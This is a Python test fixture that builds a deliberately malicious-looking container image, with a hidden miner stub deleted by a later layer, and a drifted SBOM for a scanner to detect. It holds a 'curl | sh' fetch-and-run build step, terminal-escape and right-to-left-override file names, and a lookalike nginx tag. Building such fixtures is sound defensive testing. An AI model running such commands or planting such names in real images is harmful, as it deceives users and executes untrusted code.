"""A small image with a story: a hidden miner, deleted by a later layer, and names that attack a screen."""

from __future__ import annotations

from pathlib import Path

from tests.image_archives import as_json, config_of, docker_save
from tests.layered_images import DIRECTORY, GONE, Link, Program, layer_tar

MARKUP_NAME = "/tmp/[/foo]"
CLIPBOARD_NAME = "/tmp/\x1b]52;c;aGk=\x07evil"
ORDER_NAME = "/tmp/a\u202egnp.exe"
BYTES_NAME = "/tmp/b\udcff\udcfe"
HOSTILE_NAMES = (MARKUP_NAME, CLIPBOARD_NAME, ORDER_NAME, BYTES_NAME)
MINER = "/usr/lib/.x/kworker"
POOL = b"stratum+tcp://pool.example.invalid:3333"

_INSTRUCTIONS = (
    "/bin/sh -c #(nop) ADD file:base in / ",
    "RUN /bin/sh -c adduser app # buildkit",
    "RUN /bin/sh -c curl -s http://192.0.2.1/x.sh | sh # buildkit",
    "RUN /bin/sh -c rm -r /usr/lib/.x/kworker /usr/share/doc/pkg1 # buildkit",
)


def story_layers() -> list[bytes]:
    """The four layers."""
    documents = {f"/usr/share/doc/pkg{n % 4}/page{n}.txt": f"page {n}\n" * 20 for n in range(120)}
    status = "Package: base\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n\n"
    owned = "".join(f"{path}\n" for path in ["/.", "/etc", "/etc/passwd", *sorted(documents)])
    base = {
        "/etc": DIRECTORY,
        "/etc/passwd": "root:x:0:0::/root:/bin/sh\n",
        "/etc/os-release": 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
        "/var/lib/dpkg/status": status,
        "/var/lib/dpkg/info/base.list": owned,
        "/bin": Link("usr/bin"),
        **documents,
    }
    second = {
        "/etc/passwd": "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n",
        "/app/run.sh": Program(b'#!/bin/sh\nexec /usr/lib/.x/kworker "$@"\n'),
    }
    program = b"\x7fELF\x02\x01\x01".ljust(4096, b"\0") + b"xmrig\0randomx\0donate-level\0" + POOL + b"\0"
    third = {
        "/usr/lib/.x": DIRECTORY,
        MINER: Program(program),
        "/usr/lib/.x/config.json": '{"pools":[{"url":"pool.example.invalid:3333"}]}\n',
        **dict.fromkeys(HOSTILE_NAMES, "a name is enough\n"),
    }
    fourth = {MINER: GONE, "/usr/share/doc/pkg1": GONE}
    return [layer_tar(layer) for layer in (base, second, third, fourth)]


def write_story(path: Path) -> Path:
    """The image as a docker-save archive."""
    layers = story_layers()
    history = [
        {"created": f"2026-03-01T10:0{number}:00Z", "created_by": text}
        for number, text in enumerate(_INSTRUCTIONS)
    ]
    history.append(
        {"created": "2026-03-01T10:09:00Z", "created_by": 'ENTRYPOINT ["/app/run.sh"]', "empty_layer": True}
    )
    settings = {
        "Entrypoint": ["/app/run.sh"],
        "Env": ["PATH=/usr/bin:/bin", "GREETING=[/hello] you"],
        "Labels": {"title": "look\x1b[31malike"},
    }
    config = config_of(layers, config=settings, history=history)
    path.write_bytes(docker_save(layers, tags=["nginx:1.27-lookalike"], config=config))
    return path


def write_drifted_sbom(path: Path) -> Path:
    """A CycloneDX document that knows another version of the one package, and one that is not there."""
    component = {
        "type": "library",
        "name": "base",
        "version": "0.9",
        "purl": "pkg:deb/debian/base@0.9?arch=amd64",
    }
    ghost = {"type": "library", "name": "ghost", "version": "9", "purl": "pkg:deb/debian/ghost@9?arch=amd64"}
    document = {
        "bomFormat": "CycloneDX",
        "specVersion": "1.6",
        "version": 1,
        "components": [component, ghost],
    }
    path.write_bytes(as_json(document))
    return path
